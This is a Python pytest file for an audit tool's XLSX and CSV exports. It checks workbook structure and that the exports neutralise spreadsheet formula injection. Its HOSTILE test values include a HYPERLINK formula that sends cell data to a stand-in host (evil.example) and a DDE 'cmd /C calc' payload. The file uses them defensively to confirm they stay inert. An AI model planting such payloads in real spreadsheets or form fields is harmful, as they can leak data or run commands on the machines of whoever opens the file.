"""The XLSX workbook: its sheets as a reviewable snapshot, its structure, and formula-injection safety."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
from pathlib import Path

import pytest
from demo_result import AS_OF, assess_demo
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from snapshot_files import TextSnapshot
from syrupy.assertion import SnapshotAssertion

from ccc_audit.app.assess import AssessOptions, assess
from ccc_audit.app.render import render_all
from ccc_audit.models.result import AssessmentResult
from ccc_audit.register.csv_file import read_csv
from ccc_audit.register.merge import merge
from ccc_audit.register.model import Register
from ccc_audit.register.xlsx_file import read_xlsx
from ccc_audit.resources import demo_bundle

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _dump(sheet: Worksheet) -> list[str]:
    lines = [
        f"== {sheet.title}",
        f"freeze {sheet.freeze_panes}; filter {sheet.auto_filter.ref}",
        "widths " + ", ".join(f"{k}={v.width:g}" for k, v in sorted(sheet.column_dimensions.items())),
    ]
    for rule in sheet.data_validations.dataValidation:
        lines.append(f"validation {rule.sqref} {rule.type} {rule.formula1}")
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None:
                kind = type(cell.value).__name__
                fmt = f" [{cell.number_format}]" if kind == "datetime" else ""
                lines.append(f"{cell.coordinate} {kind}{fmt}: {cell.value!r}")
    return lines


@pytest.fixture(scope="module")
def demo() -> AssessmentResult:
    return assess_demo()


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_xlsx_sheet_contents(demo: AssessmentResult, lang: str, snapshot: SnapshotAssertion) -> None:
    raw = render_all(demo, ["xlsx"], [lang])[f"gap-analysis.{lang}.xlsx"]
    book = load_workbook(io.BytesIO(raw))
    text = "\n".join(line for sheet in book.worksheets for line in _dump(sheet)) + "\n"
    assert text == snapshot(extension_class=TextSnapshot)


def test_xlsx_structure(demo: AssessmentResult) -> None:
    raw = render_all(demo, ["xlsx"], ["en"])["gap-analysis.en.xlsx"]
    assert raw == render_all(demo, ["xlsx"], ["en"])["gap-analysis.en.xlsx"], "not byte-stable"
    book = load_workbook(io.BytesIO(raw))
    assert book.sheetnames == [
        "Summary",
        "Gap analysis",
        "Corrective actions (open)",
        "Corrective actions (closed)",
        "Evidence index",
        "Engagement",
    ]
    actions = book["Corrective actions (open)"]
    assert actions.freeze_panes == "A2"
    assert actions.auto_filter.ref is not None
    headers = [c.value for c in actions[1]]
    first_detected = actions.cell(row=2, column=headers.index("First detected") + 1)
    assert first_detected.value == dt.datetime(2026, 1, 15)
    assert first_detected.number_format == "yyyy-mm-dd"
    validations = {rule.formula1 for rule in actions.data_validations.dataValidation}
    assert '"open,in progress,implemented,verified effective,closed"' in validations
    assert '"Major nonconformity,Minor nonconformity,Observation"' in validations
    assert actions.max_row == len(demo.findings) + 1


HOSTILE = {
    "organisation": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "document": "+cmd|' /C calc'!A0",
    "site": "\tleading tab",
    "rationale": "-1+1",
    "remark": "@SUM(1,2)",
}


DEMO_RATIONALE = (
    '"主要KPIの目標は事業計画で定めているが、'
    '業界ベンチマークとの比較はサービスレベルと顧客満足度に限られる。"'
)
"""An attestation rationale of the demo bundle (copc.1.3.benchmarked-targets, a finding)."""


@pytest.fixture(scope="module")
def hostile_result(tmp_path_factory: pytest.TempPathFactory) -> AssessmentResult:
    root = tmp_path_factory.mktemp("hostile") / "bundle"
    shutil.copytree(demo_bundle(), root)
    manifest = root / "bundle.yaml"
    text = manifest.read_text("utf-8")
    replacements = {
        '"株式会社さくらカスタマーサービス"': HOSTILE["organisation"],
        '"2025年度事業計画"': HOSTILE["document"],
        '"札幌センター"': HOSTILE["site"],
        DEMO_RATIONALE: HOSTILE["rationale"],
    }
    for old, new in replacements.items():
        assert old in text
        text = text.replace(old, json.dumps(new, ensure_ascii=False))
    manifest.write_text(text, "utf-8")
    return assess(AssessOptions(root, AS_OF, language="en")).result


def _register_with_remarks(result: AssessmentResult) -> Register:
    register = merge(Register("en"), result)
    for row in register.rows:
        row["remarks"] = HOSTILE["remark"]
        row["root_cause"] = HOSTILE["rationale"]
    return register


def test_hostile_strings_are_inert_in_xlsx_and_come_back_unchanged(
    hostile_result: AssessmentResult, tmp_path: Path
) -> None:
    from ccc_audit.reporters.xlsx_workbook import render_workbook

    register = _register_with_remarks(hostile_result)
    path = tmp_path / "car.xlsx"
    path.write_bytes(render_workbook(hostile_result, register, "en"))
    book = load_workbook(path)
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    # Inert by the invisible quote prefix (text, never a formula), not a visible apostrophe.
                    assert cell.quotePrefix or not cell.value.startswith(TRIGGERS), (
                        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                    )
                    assert cell.data_type == "s" or not cell.value.startswith(TRIGGERS)
                    values.append(cell.value)
    for hostile in HOSTILE.values():
        assert any(v.startswith(hostile) for v in values), f"{hostile!r} does not come back from the workbook"
    assert book["Summary"]["B3"].value == HOSTILE["organisation"]
    assert book["Summary"]["B3"].quotePrefix
    assert read_xlsx(path).rows == register.rows


def test_hostile_strings_are_inert_in_csv_and_come_back_unchanged(
    hostile_result: AssessmentResult, tmp_path: Path
) -> None:
    from ccc_audit.register.csv_file import render_csv

    register = _register_with_remarks(hostile_result)
    path = tmp_path / "car.csv"
    path.write_bytes(render_csv(register))
    cells = [c for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")) for c in row]
    for cell in cells:
        assert not cell.startswith(TRIGGERS), cell
    assert read_csv(path).rows == register.rows
    shipped = render_all(hostile_result, ["csv"], ["en"])["corrective-actions.csv"].decode("utf-8-sig")
    for cell in (c for row in csv.reader(io.StringIO(shipped, newline="")) for c in row):
        assert not cell.startswith(TRIGGERS), cell
